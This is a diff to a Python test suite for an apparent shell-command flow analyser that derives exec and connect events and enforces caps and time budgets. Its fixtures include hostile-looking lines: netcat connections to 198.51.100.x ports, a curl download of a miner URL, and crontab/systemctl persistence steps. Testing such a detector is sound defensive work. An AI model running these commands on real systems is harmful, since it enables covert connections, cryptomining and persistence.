@@ -540,12 +540,19 @@ def test_chain_of_scripts_stops_at_the_depth_cap() -> None:
 
 
 def test_derived_event_cap() -> None:
+    caps = Caps(max_events=16)  # 16 * 16 = 256 derived events at most
     steps: list = []
-    for k in range(40):
-        body = "".join(f"nc 198.51.100.{j % 250} {1000 + j + k}\n" for j in range(200))
+    for k in range(4):
+        body = "".join(f"nc 198.51.100.{j} {1000 + j + k}\n" for j in range(8))
         steps += [("file", f"many{k}.sh", body), f"bash many{k}.sh"]
-    _, f = flow(*steps)
-    assert len(f.events) == 16 * Caps().max_events
+    many = step_events(steps)
+    f = resolve_flow(many, caps=caps)
+    assert len(f.events) == 64 and f.reasons == ()  # 4 scripts x 8 lines x (exec + connect)
+    more: list = []
+    for k in range(20):
+        more += [("file", f"more{k}.sh", f"nc 198.51.100.{k} 80\n" * 8), f"bash more{k}.sh"]
+    f = resolve_flow(step_events(steps + more), caps=caps)
+    assert len(f.events) == 256
     assert any("derived event cap" in r for r in f.reasons)
 
 
@@ -648,7 +655,7 @@ _COMMANDS = ["bash x.sh", "./kw -c config.json", "source ~/.bashrc", "make", "ma
              "crontab x.sh", "systemctl enable x", f"curl -o kw {MINER_URL}", "python -m a.b"]
 
 
-@settings(max_examples=60, deadline=None, derandomize=True,
+@settings(max_examples=40, deadline=None, derandomize=True,
           suppress_health_check=[HealthCheck.too_slow])
 @given(st.lists(st.one_of(
     st.tuples(st.just("file"), st.sampled_from(_PATHS), st.sampled_from(_CONTENTS)),
@@ -828,3 +835,14 @@ def test_parse_budget(monkeypatch) -> None:
     monkeypatch.setattr(flow_module, "_PARSE_BUDGET", 0)
     _, f = flow(("file", "x.sh", SCRIPT), "bash x.sh")
     assert f.events == () and any("parse budget" in r for r in f.reasons)
+
+
+def test_many_runner_calls_over_many_files_stay_fast() -> None:
+    steps: list = [("file", f"tests/test_m{k}.py", f"def test_{k}():\n    assert {k}\n") for k in range(300)]
+    steps += [("file", "tests/conftest.py", CONFTEST), ("file", "Makefile", MAKEFILE)]
+    steps += ["pytest -q", "make deploy", "python -m pytest tests/test_m1.py"] * 100
+    events = step_events(steps)
+    start = time.perf_counter()
+    f = resolve_flow(events)
+    assert time.perf_counter() - start < 3
+    assert names(f).count("ngrok") == 1 and names(f).count("ssh") == 1
